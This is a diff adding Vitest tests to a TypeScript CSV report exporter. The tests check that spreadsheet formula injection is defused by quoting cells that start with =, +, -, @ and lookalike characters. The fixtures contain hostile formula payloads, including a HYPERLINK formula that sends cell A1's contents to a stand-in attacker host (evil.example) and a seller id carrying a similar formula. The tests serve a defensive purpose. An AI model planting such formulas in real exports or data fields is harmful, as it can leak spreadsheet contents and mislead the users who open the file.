@@ -1,6 +1,9 @@
 import { createHash, randomUUID } from 'node:crypto';
 import { text } from 'node:stream/consumers';
 import { fileURLToPath } from 'node:url';
+import { parse } from 'csv-parse/sync';
+import { escapeLiteral } from 'pg';
+import { to as copyTo } from 'pg-copy-streams';
 import { MockActivityEnvironment } from '@temporalio/testing';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { createReportActivities } from '../../src/activities/report.activities.ts';
@@ -82,6 +85,68 @@ describe('each report of reports/', () => {
     });
     expect(stored.split('\n')[0]).toBe(report.columns.map(({ name }) => name).join(','));
   });
+});
+
+describe('a cell of a report', () => {
+  const shown = async (type: 'text' | 'integer', sql: string): Promise<string> => {
+    const columns = [{ name: 'cell', type, unit: undefined, meaning: 'what a test needs' }];
+    const copy = toCopy({ query: `SELECT ${sql} AS cell`, parameters: [], columns }, {});
+    const client = await test.pool.connect();
+    try {
+      const csv = await text(client.query(copyTo(copy)));
+      return parse<{ cell: string }>(csv, { columns: true })[0]!.cell;
+    } finally {
+      client.release();
+    }
+  };
+  const literal = (given: string) => escapeLiteral(given);
+
+  it.each([
+    '=HYPERLINK("https://evil.example?"&A1,"pay")',
+    '+1+1',
+    '-2+3',
+    '@SUM(A1:A9)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '   =1',
+    '"=1"',
+    "'=1",
+    '\u00a0=1',
+    '\ufeff=1',
+    '＝1',
+    '＋1',
+    '－1',
+    '＠SUM(1)',
+    '-5',
+  ])('is no formula when the text would be one: %j', async (given) => {
+    expect(await shown('text', literal(given))).toBe(`'${given}`);
+  });
+
+  it.each(['anna', 'A-1=2', '1968: "=1"', '', 'O’Hara', '(=1)', '3 - 2', 'a\n=1'])(
+    'is the text itself when that is none: %j',
+    async (given) => {
+      expect(await shown('text', literal(given))).toBe(given);
+    },
+  );
+
+  it('is a number when it is one, negative or not', async () => {
+    expect(await shown('integer', '-1250')).toBe('-1250');
+  });
+});
+
+it('a seller whose id is a formula is not live in the report of held money', async () => {
+  const sellerId = '=HYPERLINK("https://evil.example","pay")';
+  const auction = await rows.auction({ sellerId });
+  const offer = await rows.offer(auction);
+  const payment = await rows.payment(offer, { state: 'captured', captureId: 'CAPTURE2' });
+  await rows.disbursement(payment);
+  const report = reports.find(({ name }) => name === 'held-money')!;
+  const client = await test.pool.connect();
+  const csv = await text(client.query(copyTo(toCopy(report, {})))).finally(() => client.release());
+  const sellers = parse<{ seller: string }>(csv, { columns: true }).map(({ seller }) => seller);
+  expect(sellers).toContain(`'${sellerId}`);
+  expect(sellers).not.toContain(sellerId);
 });
 
 /** As a schedule would ask on the day after the sale of this test. */
